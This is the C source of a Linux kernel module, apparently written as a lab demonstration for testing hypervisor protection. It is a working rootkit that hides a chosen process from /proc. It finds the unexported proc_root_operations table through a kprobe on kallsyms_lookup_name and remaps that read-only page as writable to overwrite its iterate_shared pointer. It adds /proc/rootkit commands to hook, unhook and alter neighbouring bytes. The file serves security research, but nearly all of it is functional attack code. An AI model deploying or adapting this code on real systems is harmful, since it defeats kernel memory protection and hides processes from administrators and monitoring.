// SPDX-License-Identifier: GPL-2.0-only
/*
 * What an attacker who is root in a guest does: hide a process from /proc by
 * replacing a function pointer of the guest's own kernel. The table is in
 * read-only memory; so the page is mapped a second time, writable, against
 * which a kernel has no defence of its own.
 *
 * /proc/rootkit tells where the pointer is, and takes: hook PID, unhook,
 * neighbour (change 8 bytes in the next 128, see them changed, put them back).
 * Only for guests of the lab.
 */
#include <linux/fs.h>
#include <linux/io.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/seq_file.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>

#define TARGET "proc_root_operations"
#define SUBPAGE 128

typedef int (*iterate_t)(struct file *file, struct dir_context *ctx);

struct hiding {
	struct dir_context ctx;
	struct dir_context *caller;
};

static iterate_t *slot;		/* the pointer, where it is read-only */
static iterate_t *writable;	/* the same, by the second mapping */
static iterate_t original;
static char hidden[16];

static bool pass_on(struct dir_context *ctx, const char *name, int len, loff_t pos, u64 ino,
		    unsigned int type)
{
	struct hiding *h = container_of(ctx, struct hiding, ctx);

	if (len == strlen(hidden) && !memcmp(name, hidden, len))
		return true;
	h->caller->pos = ctx->pos;
	return h->caller->actor(h->caller, name, len, pos, ino, type);
}

static int iterate_and_hide(struct file *file, struct dir_context *ctx)
{
	struct hiding h = { .ctx = *ctx, .caller = ctx };
	int r;

	h.ctx.actor = pass_on;
	r = original(file, &h.ctx);
	ctx->pos = h.ctx.pos;
	return r;
}

/* The attack itself: one store. Not inlined, so that an oops names it. */
static noinline void overwrite(volatile unsigned long *where, unsigned long value)
{
	*where = value;
}

static int hook(const char *pid)
{
	strscpy(hidden, pid, sizeof(hidden));
	overwrite((unsigned long *)writable, (unsigned long)iterate_and_hide);
	return READ_ONCE(*slot) == iterate_and_hide ? 0 : -EIO;
}

static int unhook(void)
{
	overwrite((unsigned long *)writable, (unsigned long)original);
	return READ_ONCE(*slot) == original ? 0 : -EIO;
}

/* In the same page, or the mapping would not reach it. */
static long neighbour_offset(void)
{
	return offset_in_page(slot) < PAGE_SIZE - SUBPAGE ? SUBPAGE : -SUBPAGE;
}

static int neighbour(void)
{
	volatile unsigned long *where = (void *)writable + neighbour_offset();
	unsigned long *seen = (void *)slot + neighbour_offset();
	unsigned long flags, before;
	bool changed;

	/* Whoever else reads it must not see it */
	local_irq_save(flags);
	before = READ_ONCE(*seen);
	overwrite(where, ~before);
	changed = READ_ONCE(*seen) == ~before;
	overwrite(where, before);
	changed = changed && READ_ONCE(*seen) == before;
	local_irq_restore(flags);
	return changed ? 0 : -EIO;
}

static ssize_t rootkit_write(struct file *file, const char __user *text, size_t len, loff_t *pos)
{
	char command[32] = "";
	int r;

	if (len >= sizeof(command) || copy_from_user(command, text, len))
		return -EINVAL;
	if (!strncmp(command, "hook ", 5))
		r = hook(strim(command + 5));
	else if (!strcmp(strim(command), "unhook"))
		r = unhook();
	else if (!strcmp(strim(command), "neighbour"))
		r = neighbour();
	else
		r = -EINVAL;
	return r ? r : len;
}

static int rootkit_show(struct seq_file *m, void *v)
{
	seq_printf(m, "%s gpa 0x%llx\n", TARGET, (u64)__pa(slot));
	return 0;
}

static int rootkit_open(struct inode *inode, struct file *file)
{
	return single_open(file, rootkit_show, NULL);
}

static const struct proc_ops rootkit_ops = {
	.proc_open = rootkit_open,
	.proc_read = seq_read,
	.proc_lseek = seq_lseek,
	.proc_release = single_release,
	.proc_write = rootkit_write,
};

/* The name is not exported; a probe on the function tells where it is. */
static unsigned long find(const char *symbol)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup)(const char *name);

	if (register_kprobe(&probe))
		return 0;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return lookup(symbol);
}

static int __init rootkit_init(void)
{
	struct file_operations *table = (void *)find(TARGET);
	struct page *page;
	void *map;

	if (!table)
		return -ENOENT;
	slot = &table->iterate_shared;
	original = READ_ONCE(*slot);
	page = pfn_to_page(__pa(slot) >> PAGE_SHIFT);
	map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!map)
		return -ENOMEM;
	writable = map + offset_in_page(slot);
	if (!proc_create("rootkit", 0600, NULL, &rootkit_ops)) {
		vunmap(map);
		return -ENOMEM;
	}
	return 0;
}
module_init(rootkit_init);

MODULE_DESCRIPTION("Hides a process by overwriting a function pointer");
MODULE_LICENSE("GPL");
